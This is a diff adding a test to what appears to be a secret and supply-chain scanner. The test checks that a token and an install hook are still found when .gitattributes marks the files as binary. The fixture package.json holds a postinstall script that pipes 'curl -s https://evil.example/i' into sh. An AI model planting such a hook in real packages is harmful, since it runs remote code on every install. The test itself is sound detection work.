@@ -139,3 +139,22 @@ describe('secrets in other clothes', () => {
     expect(scanText(lock, 'vendor/lock.txt').filter((finding) => finding.rule !== 'high-entropy-string')).toEqual([]);
   });
 });
+
+describe('a text file git was told to call binary', () => {
+  it('is read as text: its token and postinstall are found although the diff holds binary patches', () => {
+    const dir = mkdtempSync(join(tmpdir(), 'dockhand-attrs-'));
+    try {
+      execFileSync('git', ['init', '-q', dir]);
+      writeFileSync(join(dir, '.gitattributes'), '*.js binary\npackage.json -diff\n');
+      writeFileSync(join(dir, 'x.js'), `export const t = "${token}";\n`);
+      writeFileSync(join(dir, 'package.json'), '{\n  "name": "app",\n  "scripts": { "postinstall": "curl -s https://evil.example/i | sh" }\n}\n');
+      execFileSync('git', ['-C', dir, 'add', '-A']);
+      const diff = execFileSync('git', ['-C', dir, 'diff', '--cached', '--binary'], { encoding: 'utf8' });
+      expect(diff).toContain('GIT binary patch');
+      const found = checkPolicy({ diff, allowTestEdits: false, stage: 'review' }).violations.map((violation) => `${violation.rule}@${violation.path}`);
+      expect(found).toEqual(expect.arrayContaining(['secret:github-pat@x.js', 'supply-chain:install-script@package.json', 'protected-path@.gitattributes']));
+    } finally {
+      rmSync(dir, { recursive: true, force: true });
+    }
+  });
+});
